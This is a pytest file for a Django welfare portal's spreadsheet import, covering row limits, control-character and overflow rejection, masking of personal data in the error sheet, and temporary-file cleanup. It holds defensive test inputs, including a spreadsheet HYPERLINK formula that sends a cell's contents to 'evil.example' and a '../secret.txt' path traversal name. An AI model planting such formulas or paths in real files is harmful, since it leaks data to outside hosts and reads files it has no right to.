"""An import's file and rows from upload to confirm: limits met while reading, messages in
Chinese, the error sheet safe to open and masked, the waiting file gone after its confirm,
after a refused preview and after its lifetime, a preview confirmed at most once, and a
confirm that loses the database saying that nothing was saved."""

import io
import os
import time
from datetime import date
from pathlib import Path

import pytest
from django.contrib import admin
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.db import OperationalError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from fedportal import admin as fedportal_admin
from fedportal import imports
from fedportal.imports import CONTROL_CHARACTERS, ScopedResource
from fedportal.personal_data import make_id_number, mask_birth_date
from fedportal.tmp_storages import GONE, FolderStorage
from tests.security.test_import_faults import (
    AWARD,
    GRANT,
    assert_refused,
    messages_of,
    table_counts,
    upload,
)
from tests.spreadsheets import CSV, confirm, csv_file, downloaded, dry_run, xlsx
from welfare.models import Grant

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def import_folder(settings, tmp_path):
    """The waiting files of this test alone."""
    settings.IMPORT_TMP_DIR = str(tmp_path / "imports")
    settings.IMPORT_EXPORT_TMP_STORAGE_CLASS = "fedportal.tmp_storages.FolderStorage"
    return tmp_path / "imports"


@pytest.fixture
def township(demo, login):
    return login("township")


def waiting(folder: Path):
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def grant_rows(count, **cells):
    """Grants of goods-free money to people without ID numbers: no uniqueness rule holds
    them apart, so only the confirm itself can keep a file from being imported twice."""
    return [
        GRANT.row(**{"受助人姓名": f"受助人{n}", "身份证号码": "", **cells}) for n in range(count)
    ]


# --- the size of a sheet --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_sheet_past_the_row_limit_is_refused_and_one_at_it_is_read(
    township, settings, fmt, import_folder
):
    settings.IMPORT_MAX_ROWS = 3
    before = table_counts()
    for count, refused in ((4, True), (3, False)):
        rows = grant_rows(count)
        if fmt == "xlsx":
            file, kind = xlsx(GRANT.header, rows), "0"
        else:
            file, kind = csv_file(GRANT.header, rows, "utf-8-sig"), CSV
        response = dry_run(township, GRANT.app_model, file, kind)
        if refused:
            assert_refused(response, "文件超过 3 行的上限")
        else:
            assert not messages_of(response) and response.context["confirm_form"]
    assert table_counts() == before


def test_blank_rows_below_the_records_count_towards_the_limit(township, settings):
    """A sheet formatted a million rows down is read row by row and refused at the limit."""
    settings.IMPORT_MAX_ROWS = 10
    book = Workbook()
    book.active.append(AWARD.header)
    book.active.append(AWARD.row())
    book.active.cell(row=5000, column=1, value=None).number_format = "0"
    book.active.cell(row=5000, column=2, value="腊市镇")
    data = io.BytesIO()
    book.save(data)
    response = dry_run(township, AWARD.app_model, upload(data.getvalue(), "long.xlsx"))
    assert_refused(response, "文件超过 10 行的上限", "空行")


def test_a_cell_right_of_the_header_is_named(township):
    rows = [[*AWARD.row(), "多出来的一格"]]
    response = dry_run(township, AWARD.app_model, xlsx(AWARD.header, rows))
    assert_refused(response, f"第2行在表头以外的第{len(AWARD.header) + 1}列还有内容")


# --- cells the entry form refuses -----------------------------------------------------------


@pytest.mark.parametrize("value", ["1e400", "-1E400", "1e999999999", "9" * 40])
@pytest.mark.parametrize("column", ["救助金额（元）", "物资数量", "年度"])
def test_overflowing_numbers_are_refused_in_chinese(township, value, column):
    before = table_counts()
    response = dry_run(
        township, GRANT.app_model, xlsx(GRANT.header, [GRANT.row(**{column: value})])
    )
    assert_refused(response, "过大")
    assert table_counts() == before


@pytest.mark.parametrize("value", ["刘\x00冬梅", "刘冬梅\x07", "\x1b[31m刘冬梅"])
def test_control_characters_are_refused_as_the_entry_form_refuses_them(township, value):
    before = table_counts()
    rows = [GRANT.row(受助人姓名=value)]
    response = dry_run(township, GRANT.app_model, csv_file(GRANT.header, rows, "utf-8"), CSV)
    assert_refused(response, CONTROL_CHARACTERS)
    assert table_counts() == before
    # The entry form says the same.
    form = township.get(reverse("admin:welfare_grant_add")).context["adminform"].form
    with pytest.raises(ValidationError, match="控制字符"):
        form.fields["beneficiary_name"].clean(value)


def test_a_widget_failing_unforeseen_still_gives_a_sentence(township, monkeypatch):
    def broken(self, value, row=None, **kwargs):
        raise ArithmeticError("decimal trouble")

    monkeypatch.setattr(imports.MoneyWidget, "clean", broken)
    response = dry_run(township, GRANT.app_model, xlsx(GRANT.header, [GRANT.row()]))
    assert_refused(response, "无法识别，请核对这一格的内容")


# --- the error sheet --------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def error_sheet(client, app_model):
    response = client.get(reverse(f"admin:{app_model.replace('.', '_')}_import_errors"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(downloaded(response))).active
    return [[cell for cell in row] for row in sheet.iter_rows(min_row=2)]


def test_the_error_sheet_writes_no_formula_and_masks_what_the_user_may_not_see(township):
    number = make_id_number("360313", date(1975, 1, 9), 58)
    rows = [
        GRANT.row(**{"发放日期": FORMULA}),
        # Born after the grant: the birth date cell is refused, and shown masked.
        GRANT.row(**{"受助人姓名": "晚生", "身份证号码": "", "出生日期": "2021/12/30"}),
        # Twice the same person on the same day: refused, the number shown masked.
        GRANT.row(**{"受助人姓名": "重复", "身份证号码": number}),
        GRANT.row(**{"受助人姓名": "重复", "身份证号码": number}),
    ]
    response = dry_run(township, GRANT.app_model, csv_file(GRANT.header, rows, "utf-8"), CSV)
    assert messages_of(response)
    cells = error_sheet(township, GRANT.app_model)
    formula_cells = [row[2] for row in cells if row[1].value == "发放日期" and row[0].value == "2"]
    assert [(c.value, c.data_type) for c in formula_cells] == [("'" + FORMULA, "s")]
    assert all(cell.data_type != "f" for row in cells for cell in row)
    shown = " ".join(str(cell.value) for row in cells for cell in row)
    assert number not in shown and "2021-12-30" not in shown and "2021/12/30" not in shown
    births = [row[2].value for row in cells if row[1].value == "出生日期"]
    assert births == [mask_birth_date("2021-12-30")]


def test_the_error_rows_expire(township, settings, monkeypatch):
    dry_run(township, AWARD.app_model, xlsx(AWARD.header, [AWARD.row(年度="二〇二一")]))
    url = reverse("admin:families_familyaward_import_errors")
    assert township.get(url).status_code == 200
    later = time.time() + settings.IMPORT_ERRORS_LIFETIME + 1
    monkeypatch.setattr(fedportal_admin.time, "time", lambda: later)
    assert township.get(url).status_code == 404
    assert not [k for k in township.session.keys() if k.startswith("import-errors:")]  # noqa: SIM118


# --- the waiting file -----------------------------------------------------------------------


def test_a_confirmed_file_is_gone_and_cannot_be_confirmed_again(township, import_folder):
    preview = dry_run(township, GRANT.app_model, xlsx(GRANT.header, grant_rows(2)))
    assert preview.context["confirm_form"] and len(waiting(import_folder)) == 1
    assert confirm(township, GRANT.app_model, preview).status_code == 302
    assert Grant.objects.count() == 2
    assert waiting(import_folder) == []
    again = confirm(township, GRANT.app_model, preview)
    assert again.status_code == 302
    assert [str(m) for m in get_messages(again.wsgi_request)][-1] == GONE
    assert Grant.objects.count() == 2


def test_a_refused_preview_leaves_no_file(township, import_folder):
    response = dry_run(township, AWARD.app_model, xlsx(AWARD.header, [AWARD.row(年度="某年")]))
    assert messages_of(response)
    assert waiting(import_folder) == []
    response = dry_run(township, AWARD.app_model, upload(b"not a workbook", "a.xlsx"))
    assert messages_of(response)
    assert waiting(import_folder) == []


def test_a_name_posted_back_is_no_path(township, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("x")
    storage = FolderStorage(name="../secret.txt", read_mode="rb")
    with pytest.raises(imports.ImportFileError):
        storage.take()
    assert secret.exists()


def test_abandoned_files_are_cleaned_after_their_lifetime(township, settings, import_folder):
    dry_run(township, GRANT.app_model, xlsx(GRANT.header, grant_rows(1)))
    dry_run(township, GRANT.app_model, xlsx(GRANT.header, grant_rows(1)))
    old, new = sorted(import_folder.iterdir())
    hours_ago = time.time() - settings.IMPORT_FILE_LIFETIME - 60
    os.utime(old, (hours_ago, hours_ago))
    out = io.StringIO()
    call_command("clean_import_files", stdout=out)
    assert waiting(import_folder) == [new.name]
    assert "已删除 1 个" in out.getvalue()
    assert oct(import_folder.stat().st_mode & 0o777) == "0o700"
    assert oct(new.stat().st_mode & 0o777) == "0o600"


@pytest.mark.parametrize("where", ["while saving", "as the transaction ends"])
def test_a_confirm_that_loses_the_database_says_nothing_was_saved(
    township, monkeypatch, import_folder, where
):
    preview = dry_run(township, GRANT.app_model, xlsx(GRANT.header, grant_rows(2)))
    before = table_counts()

    def lost(*args, **kwargs):
        raise OperationalError("server closed the connection unexpectedly")

    if where == "while saving":
        monkeypatch.setattr(imports, "bulk_create_with_history", lost)
    else:
        monkeypatch.setattr(ScopedResource, "import_data", lost)
    response = confirm(township, GRANT.app_model, preview)
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:welfare_grant_import")
    (message,) = [str(m) for m in get_messages(response.wsgi_request)]
    assert message == fedportal_admin.CONFIRM_FAILED
    assert "没有写入任何记录" in message and "放心重试" in message
    assert table_counts() == before
    assert waiting(import_folder) == []


def test_every_import_admin_uses_the_confirm_that_takes_its_file():
    for model_admin in admin.site._registry.values():
        if hasattr(model_admin, "process_import"):
            assert type(model_admin).process_import is fedportal_admin.ScopedAdmin.process_import
